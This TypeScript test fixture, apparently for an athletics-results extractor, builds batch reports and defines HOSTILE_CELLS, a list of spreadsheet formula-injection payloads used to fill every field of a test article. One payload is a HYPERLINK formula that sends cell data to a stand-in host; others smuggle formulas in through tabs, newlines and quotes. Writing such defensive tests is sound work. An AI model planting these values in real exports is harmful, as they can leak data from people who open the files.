/** The articles of `corpus/`, and others, as a batch hands them to its outputs. */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Finished, openOutput, outputKind } from '../../src/batch/outputs/index.js';
import { SCHEMA } from '../../src/batch/schema-version.js';
import { extract, type RaceReport } from '../../src/index.js';
import { reportLine } from '../../src/present/index.js';
import { corpus } from '../evaluate/folder.js';

/** A report as it comes to the outputs. */
function finished(number: number, id: string, report: RaceReport): Finished {
  return { number, id, line: reportLine({ schema: SCHEMA, id, ...report }), report, background: true };
}

/** Every article of the corpus. */
export const corpusFinished = (): Finished[] =>
  corpus().map(({ id, text }, index) => finished(index + 1, id, extract(text, { id })));

const folder = mkdtempSync(join(tmpdir(), 'harrier-outputs-'));

/** Writes articles into a file of that name in a folder of its own, and gives the path. */
export async function written(name: string, articles: Iterable<Finished>): Promise<string> {
  const path = join(folder, name);
  const output = await openOutput(outputKind(name), path);
  for (const article of articles) await output.add(article);
  await output.close();
  return path;
}

/** What a text file holds, line by line. */
export const linesOf = (path: string): string[] => readFileSync(path, 'utf8').split('\n').slice(0, -1);

/** Cells that a spreadsheet would work out instead of showing them. */
export const HOSTILE_CELLS = [
  '=HYPERLINK("http://mill.example/?"&A1,"Result")',
  '+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'Mill";=1+1;"',
  'Mill\n=1+1',
  ' =1+1',
  "'=1+1",
  '=NR',
];

/** An article whose every text that reaches a cell is a hostile one. */
export function hostile(number: number): Finished {
  const cell = (at: number) => HOSTILE_CELLS[at % HOSTILE_CELLS.length]!;
  const span = { start: 0, end: 3, text: 'Orr' };
  const fact = <T>(value: T) => ({ value, spans: [span], basis: 'stated' as const, rule: 'none' });
  const at = number * 3;
  return finished(number, `${cell(at)} ${number}`, {
    article: { id: null, title: null, byline: null, published: null, length: 3, hash: '0' },
    meetings: [{ key: 'm1', name: fact(cell(at)), venue: fact(cell(at + 1)), city: fact(cell(at + 2)), dates: [] }],
    athletes: HOSTILE_CELLS.map((name, index) => ({
      key: `a${index}`,
      name: fact(name),
      club: fact(cell(index + 1)),
      mentions: [span],
    })),
    races: [
      {
        key: 'r1',
        meeting: 'm1',
        event: fact('LJ'),
        category: fact(cell(at)),
        results: HOSTILE_CELLS.map((_, index) => ({
          athlete: `a${index}`,
          members: [`a${index}`, `a${(index + 1) % HOSTILE_CELLS.length}`],
          records: [fact('=NR'), fact(cell(index))],
          wind: fact(-0.4),
        })),
      },
    ],
    background: [],
    findings: [],
  });
}
